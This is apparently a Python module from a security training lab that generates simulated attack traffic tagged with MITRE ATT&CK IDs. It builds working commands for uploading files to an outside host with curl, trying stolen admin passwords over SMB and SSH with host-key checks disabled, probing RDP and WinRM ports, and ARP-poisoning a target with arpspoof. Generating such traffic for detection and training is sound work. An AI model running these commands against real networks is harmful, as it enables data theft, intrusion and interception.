"""Exfiltration, bulk and slow, and what goes before it: moving on inside, and standing between others."""

import sys
from ipaddress import IPv4Network
from typing import Final

from training.lab.accounts import PASSWORDS
from training.lab.attacks.tool import Order, Reach, Tool, addresses, in_urls, only, straight
from training.lab.content import web_root
from training.lab.place import Place
from training.lab.traffic import tcp, udp

LONGEST_TRY_S: Final = "8"


def _bulk(place: Place, order: Order) -> list[list[str]]:
    """The same large file again and again, as fast as the cable lets it; packets / 4000 times at most."""
    source, far = web_root(place.site.shared) / "large.bin", in_urls(place, order)[0]
    url = f"https://{far}/upload/{place.host}"
    return [["curl", "-sSk", "-o", "/dev/null", "-T", str(source), url]] * max(1, order.packets // 4000)


def _slow(place: Place, order: Order) -> list[list[str]]:
    options = ["--rate", f"{order.rate:g}", "--seed", str(order.seed), "--for", f"{order.for_s:g}"]
    url = f"https://{in_urls(place, order)[0]}/upload/"
    return [[sys.executable, "-P", "-m", "training.lab.clients.exfiltrate", *options, url]]


def _move(place: Place, order: Order) -> list[list[str]]:
    """Stolen words tried at every target: shares listed, a shell asked for, a remote desktop knocked at."""
    tries = []
    for address in addresses(place, order):
        login = f"admin%{PASSWORDS['admin']}"
        tries.append(["smbclient", "-s", "/dev/null", "-p", "445", "-t", LONGEST_TRY_S, "-U", login, "-L", address])
        options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5"]
        tries.append(["sshpass", "-p", PASSWORDS["admin"], "ssh", *options, f"admin@{address}", "id; ls -la; uname -a"])
        knock = f'for port in 3389 5985 135; do socat -T 1 - "TCP:{address}:$port,connect-timeout=2" </dev/null; done'
        tries.append(["sh", "-c", knock])
    return tries


def _between(place: Place, order: Order) -> list[list[str]]:
    """Tells a target that the router is here, and hands on what comes."""
    network = place.site.networks[place.host]
    router = str(network.network_address + 1)
    script = 'echo 1 >/proc/sys/net/ipv4/ip_forward; exec arpspoof -i eth0 -t "$1" "$2"'
    return [["sh", "-c", script, "sh", addresses(place, order)[0], router]]


def _asks(place: Place, order: Order) -> list[Reach]:
    """Datagrams by which arpspoof makes the kernel ask for hardware addresses; else it sends ARP alone."""
    router = IPv4Network(place.site.networks[place.host].network_address + 1)
    return [Reach(only(place, place.host), (*only(place, *order.targets), router), (udp(67),))]


THEFT: Final = (
    Tool(
        "exfiltrate-bulk",
        "uploads a large file",
        "T1048",
        ("curl",),
        ("curl",),
        _bulk,
        straight(tcp(443)),
        service="https",
        ipv6=True,
    ),
    Tool(
        "exfiltrate-slow",
        "uploads rate bytes a second",
        "T1041",
        (),
        (),
        _slow,
        straight(tcp(443)),
        service="https",
        ipv6=True,
    ),
    Tool(
        "lateral",
        "tries stolen words at many hosts",
        "T1021",
        ("smbclient", "openssh-client", "sshpass", "socat"),
        ("smbclient", "ssh", "sshpass", "socat"),
        _move,
        straight(tcp(22), tcp(445), tcp(139), tcp(135), tcp(3389), tcp(5985)),
    ),
    Tool(
        "arp-poisoning",
        "stands between a host and the router",
        "T1557.002",
        ("dsniff",),
        ("arpspoof",),
        _between,
        _asks,
        arp=True,
    ),
)
